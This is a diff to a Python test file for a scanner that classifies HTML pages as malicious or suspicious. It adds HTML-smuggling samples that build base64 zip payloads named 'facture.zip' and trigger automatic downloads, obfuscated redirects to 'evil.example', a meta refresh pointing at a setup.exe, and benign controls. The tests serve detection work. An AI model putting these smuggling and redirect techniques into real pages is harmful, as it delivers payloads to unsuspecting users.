@@ -34,9 +34,18 @@ def smuggler(brought: str, name: str) -> str:
 NUMBERS = ", ".join(str(number % 256) for number in range(80))
 
 
+MANY = base64.b64encode(samples.zip_of({"a.js": bytes(range(256))})).decode()
+PIECES = [MANY[at : at + 8] for at in range(0, len(MANY), 8)]
+ADDED = "".join(f"d+='{MANY[at : at + 60]}';" for at in range(0, len(MANY), 60))
+CLICKED = f"l['href']='data:application/zip;base64,'+'{MANY}';l['download']='facture.zip';l.click()"
+
+
 @pytest.mark.parametrize(
     ("page", "level"),
     [
+        (smuggler(f"atob({PIECES}.join(''))", '"facture.zip"'), Level.MALICIOUS),
+        (smuggler(f"'';{ADDED}", '"facture.zip"'), Level.MALICIOUS),
+        (f"<script>{CLICKED}</script>", Level.MALICIOUS),
         (smuggler(f'atob("{LETTERS}")', '"facture.zip"'), Level.MALICIOUS),
         (smuggler(f"[{NUMBERS}]", "'facture.hta'"), Level.MALICIOUS),
         (smuggler(f'atob("{LETTERS}")', "n"), Level.SUSPICIOUS),
@@ -113,6 +122,9 @@ def test_a_form_that_is_sent_by_itself_is_told() -> None:
         "<script>window['loc'+'ation']['replace'](atob('aHR0cHM6Ly9l'))</script>",
         f"{TEXT}<script>window.location = atob('aHR0cHM6Ly9l')</script>",
         "<body onload=\"window.open('https://evil.example/')\">",
+        "<script>var u='ht'+'tps://evil.example/';setTimeout(()=>{location.href=u},9)</script>",
+        "<script>const u=`https://evil.example/`; window.open(u, '_self')</script>",
+        f"{TEXT}<meta http-equiv=refresh content='0;url=https://evil.example/a/setup.exe?b'>",
     ],
 )
 def test_a_page_that_leads_away_is_told(page: str) -> None:
@@ -173,6 +185,13 @@ def test_a_help_page_that_starts_a_program_with_arguments_is_told() -> None:
             "<script>function save(){var b=new Blob([svg]);a.href=URL.createObjectURL(b);"
             "a.download='plot.svg'}</script>"
         ),
+        (
+            "<script>var k=['click','keydown','pointerdown','DOMContentLoaded','transitionend',"
+            "'visibilitychange','beforeunload','hashchange','popstate','orientationchange',"
+            "'touchstart','touchmove','touchend','mouseenter','mouseleave','contextmenu'];"
+            "var b=new Blob([t]);a.href=URL.createObjectURL(b);a.download='plot.svg'</script>"
+        ),
+        "<script>var home='https://a.example/';var place=home+'b';show(place)</script>",
         "<img src='data:image/png;base64,iVBORw0KGgo='><img src='file:///C:/logo.png'>",
         '<a href="https://a.example/" onclick="window.open(\'https://a.example/\')">x</a>',
         "<meta http-equiv='refresh' content='600'><meta http-equiv=refresh content='0;url=#a'>",
